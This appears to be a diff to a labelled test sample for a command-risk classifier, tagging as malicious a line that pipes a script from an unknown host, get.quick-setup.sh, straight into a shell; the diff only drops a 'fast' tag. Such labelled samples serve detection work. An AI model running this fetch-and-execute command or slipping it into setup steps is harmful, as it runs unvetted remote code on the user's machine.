@@ -1,5 +1,4 @@
 # does: pipes a script from an unknown host into a shell
 # kind: malicious
 # expect: execution medium medium
-# fast: yes
 curl -sf http://get.quick-setup.sh/install | sh
